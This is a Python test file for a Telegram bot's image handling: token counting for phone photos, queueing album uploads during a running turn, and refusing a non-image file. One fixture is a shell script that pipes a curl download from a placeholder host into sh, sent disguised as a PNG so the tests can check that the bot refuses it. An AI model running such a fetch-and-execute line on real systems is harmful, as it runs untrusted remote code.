"""Images end to end (issue 26): the real python-telegram-bot against the Bot
API fake, the real runtime against the model fake. An ordinary photo is
counted as the API counts it, not refused as a day's budget; images sent
while a turn runs wait undownloaded, and only the newest `media.max_images`
are downloaded and sent; bytes that are no image are refused by name, and the
rest of the turn goes on."""

from __future__ import annotations

from pathlib import Path

from bot import prompts
from bot.model.client import estimate_request_tokens
from tests.adapters.test_telegram import telegram
from tests.fakes.anthropic_fake import images
from tests.fakes.images import jpeg, png
from tests.kit import user_texts, wait_until

OPEN = "adapters: {telegram: {dm_policy: open}}\n"
PERSON = 9  # no admin: the default budget of 200,000 tokens a day is theirs


async def test_an_ordinary_photo_is_seen_not_refused_as_a_days_budget(tmp_path: Path) -> None:
    photo = jpeg(4032, 3024, 2_000_000)  # a phone's photo: 2 MB, 12 megapixels
    async with telegram(tmp_path, OPEN) as (tg, model, _):
        model.script_text("[seen: a harbour at dusk]\nLovely light.")
        extra = tg.photo_extra(photo, width=4032, height=3024)
        tg.push_message(PERSON, None, user_id=PERSON, extra=extra)
        [sent] = await tg.wait_sent(1)
    assert sent["text"] == "Lovely light."
    [request] = model.requests
    assert images(request) == [("image/jpeg", photo)]
    # 1,600 for the image (after the API's resize), and the prompt's text
    assert estimate_request_tokens(request) < 1600 + 2500


async def test_images_sent_while_a_turn_runs_wait_and_only_the_newest_are_downloaded(
    tmp_path: Path,
) -> None:
    album = [jpeg(1600, 1200, 500_000 + n) for n in range(12)]  # told apart by their length
    async with telegram(tmp_path, OPEN) as (tg, model, _):
        model.configure(latency_s=2.0)
        tg.push_message(PERSON, "I'm sending you my holiday", user_id=PERSON)
        await wait_until(lambda: tg.calls_of("sendChatAction"))  # the first turn runs
        for n, data in enumerate(album):
            tg.push_message(PERSON, None, user_id=PERSON,
                            extra=tg.photo_extra(data, caption=f"day {n}"))  # fmt: skip
        await wait_until(lambda: len(tg.calls_of("getUpdates")) > 3)
        model.configure(latency_s=0.0)
        sent = await tg.wait_sent(3, timeout=20)
        full = {f"files/file_{3 * n + 3}" for n in range(12)}  # each photo's largest size
        downloaded = [d.file_path for d in tg.downloads if d.file_path in full]
    _, left_out, answer = (m["text"] for m in sent)
    assert left_out == prompts.IMAGES_REFUSED.format(
        reasons="I look at up to 4 images at a time, the newest: 8 sent before them were left out"
    )
    assert prompts.DAILY_LIMIT not in answer
    second = model.requests[1]
    assert [len(data) for _, data in images(second)] == [len(d) for d in album[8:]]
    assert len(downloaded) == 4  # only what was sent
    rows = user_texts(second)
    assert "[photo: day 0; not seen: refused]" in rows and "[photo: day 11]" in rows


async def test_a_script_sent_as_an_image_is_refused_by_name_and_the_turn_goes_on(
    tmp_path: Path,
) -> None:
    script = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
    async with telegram(tmp_path, OPEN) as (tg, model, _):
        model.configure(latency_s=1.5)
        tg.push_message(PERSON, "two things coming", user_id=PERSON)
        await wait_until(lambda: tg.calls_of("sendChatAction"))
        doc = tg.document_extra(script, file_name="run.sh", mime_type="image/png")
        tg.push_message(PERSON, None, user_id=PERSON, extra=doc)
        dot = tg.document_extra(png(64, 64, 4_000), file_name="dot.png", mime_type="image/png",
                                caption="and this")  # fmt: skip
        tg.push_message(PERSON, None, user_id=PERSON, extra=dot)
        await wait_until(lambda: len(tg.calls_of("getUpdates")) > 3)
        model.configure(latency_s=0.0)
        sent = await tg.wait_sent(3, timeout=20)
    _, refused, answer = (m["text"] for m in sent)
    assert refused == prompts.IMAGES_REFUSED.format(
        reasons='"run.sh" is not an image I can read (it came as image/png)'
    )
    assert answer != prompts.MODEL_REJECTED and answer.startswith("echo:")
    assert images(model.requests[1]) == [("image/png", png(64, 64, 4_000))]
